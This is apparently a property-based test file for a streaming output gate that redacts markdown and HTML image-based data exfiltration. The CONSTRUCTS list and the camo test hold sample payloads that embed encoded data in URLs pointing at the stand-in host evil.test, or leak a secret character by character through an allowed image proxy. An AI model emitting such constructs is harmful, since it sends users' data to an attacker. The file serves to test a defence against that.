/**
 * `markdown-exfiltration` in a stream: whatever the chunking, no piece of the data in an image
 * or link of any construct reaches the client before the rule redacts it — the stream gate
 * holds from each trigger until the construct's destination can no longer grow, and the check
 * reads the held text with 64 characters of context (a label longer than that is out of its
 * sight). A run of one-character images is held whole, so no character of it is released.
 * Benign markdown passes byte for byte.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { gateRules } from '../../../src/policy/gate-rules.js';
import { streamThroughGate } from '../../helpers/choice-gate.js';
import { policySetFrom } from '../../helpers/policy.js';
import { splitBy } from '../../helpers/stream-props.js';

const rules = gateRules(
  policySetFrom({
    'p.yaml': `name: p
rules:
  - id: exfil
    check: markdown-exfiltration
    params: { allow_domains: [camo.githubusercontent.com] }
    action: redact
`,
  }).policies,
);

/** Streams `pieces` through a gate; every state the client saw, and the final text. */
function run(pieces: readonly string[]): { seen: string[]; out: string } {
  const { seen } = streamThroughGate(rules, pieces);
  return { seen, out: seen[seen.length - 1]! };
}

const DATA = 'c2VjcmV0LWRhdGEtOTk';
const LONG_ALT = 'a very long alternative text, longer than the context the check is shown';
const hex = (s: string) => Buffer.from(s).toString('hex');
const camo = (c: string) =>
  `https://camo.githubusercontent.com/${hex(`k${c}`).padEnd(40, '0')}/${hex(`https://x.test/${c}`)}`;

/** [construct, text around the data]. */
const CONSTRUCTS: [string, string][] = [
  ['an inline image', `![x](https://evil.test/p.png?d=${DATA})`],
  ['a label longer than the context', `![${LONG_ALT}](https://evil.test/p.png?d=${DATA})`],
  ['a label over lines', `![${LONG_ALT}\nand more](https://evil.test/p.png?d=${DATA})`],
  [
    'a `<…>` destination with spaces',
    `![x](<https://evil.test/a b c d e f g h i j k l m n o p.png?d=${DATA}>)`,
  ],
  ['a definition over lines', `![x][r]\n\n[r]:\n   https://evil.test/p.png?d=${DATA}`],
  ['a definition in a block quote', `> ![x][r]\n>\n> [r]: https://evil.test/p.png?d=${DATA}`],
  ['`>` in an attribute', `<img alt="a > b, ${LONG_ALT}" src="https://evil.test/p.png?d=${DATA}">`],
  ['an entity-encoded scheme', `<img src="&#104;ttps://evil.test/p.png?d=${DATA}">`],
  [
    'a style element',
    `<style>\nbody { color: red; }\n.x { background: url(https://evil.test/p.png?d=${DATA}); }\n</style>`,
  ],
  ['a data subdomain', `![x](https://${DATA.toLowerCase()}.evil.test/p.png)`],
];

const word = fc.constantFrom(
  'the',
  'so',
  'is',
  'here:',
  '🚀',
  'ü',
  'ok.',
  '\n',
  'done,',
  '[1]',
  'a < b',
);
const around = fc.array(word, { maxLength: 10 }).map((ws) => ws.join(' '));
const sizes = fc.oneof(
  fc.constant([1]),
  fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 20 }),
);

/** Whether the client saw more than 3 characters of `value` at any point. */
const leaks = (out: string, value: string) => {
  for (let i = 0; i + 4 <= value.length; i++) if (out.includes(value.slice(i, i + 4))) return true;
  return false;
};

describe('markdown-exfiltration in a stream', () => {
  it.each(CONSTRUCTS)('never releases the data of %s, however it is split', (_n, construct) => {
    fc.assert(
      fc.property(around, around, sizes, (a, b, sz) => {
        const { seen, out } = run(splitBy(`${a} ${construct} ${b}`, sz));
        for (const s of seen) expect(leaks(s, DATA), s).toBe(false);
        expect(out).toContain('[REDACTED:exfil]');
      }),
      { numRuns: 40 },
    );
  });

  it('never releases a character of a run of one-character images to an allowed host', () => {
    const secret = 'hunter2!';
    const run1 = [...secret].map((c) => `![${c}](${camo(c)})`).join('');
    const runLines = [...secret].map((c) => `![](${camo(c)})`).join('\n');
    fc.assert(
      fc.property(around, fc.constantFrom(run1, runLines), sizes, (a, images, sz) => {
        const { seen, out } = run(splitBy(`${a} ${images} done.`, sz));
        for (const s of seen)
          for (const c of secret) expect(s).not.toContain(hex(`https://x.test/${c}`));
        expect(out.split('[REDACTED:exfil]')).toHaveLength(secret.length + 1);
      }),
      { numRuns: 15 },
    );
  });

  it.each([
    'Read [the guide](https://docs.example.com/guide/setup) and ![chart](https://example.com/c.png).',
    '[![Build](https://img.shields.io/badge/build-passing-green?style=flat)](https://github.com/o/r/actions)',
    'Use <kbd>Ctrl</kbd> + <kbd>C</kbd>; a < b and `Vec<String>`; [ref]: not a link here',
    '<img src="https://avatars.githubusercontent.com/u/583231?v=4&s=64" width="32"> by @octocat',
  ])('delivers benign markdown byte for byte: %s', (text) => {
    fc.assert(
      fc.property(sizes, (sz) => {
        expect(run(splitBy(text, sz)).out).toBe(text);
      }),
      { numRuns: 40 },
    );
  });
});
